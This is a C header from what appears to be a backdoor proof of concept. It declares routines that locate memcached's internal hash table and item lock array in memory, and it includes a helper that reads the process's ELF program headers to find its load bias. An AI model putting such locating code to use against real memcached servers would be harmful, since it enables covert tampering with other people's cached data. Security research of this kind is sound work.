/* In the proof's child: where memcached's data is, by experiment. */
#ifndef LOCATE_H
#define LOCATE_H

#include "worker.h"

#include <elf.h>
#include <link.h>
#include <sys/auxv.h>

/* The address of primary_hashtable, or 0 if it is not found. */
uintptr_t locate_table(struct backdoor_worker *worker);

/*
 * Sets *array to the address of item_locks, an array of pthread_mutex_t, and *mask to the bits of a
 * hash that are an index of it.  Returns false if they are not found.
 */
bool locate_locks(struct backdoor_worker *worker, uint64_t *array, uint32_t *mask);

/* The program's headers (getauxval(3)).  Sets *n to their number, and *bias to its load bias. */
static inline const ElfW(Phdr) * program_headers(size_t *n, uintptr_t *bias) {
    const ElfW(Phdr) *phdr = (const ElfW(Phdr) *)getauxval(AT_PHDR);
    *n = getauxval(AT_PHNUM);
    *bias = 0;
    for (size_t i = 0; i < *n; i++) {
        if (phdr[i].p_type == PT_PHDR) {
            *bias = (uintptr_t)phdr - phdr[i].p_vaddr;
        }
    }
    return phdr;
}

#endif
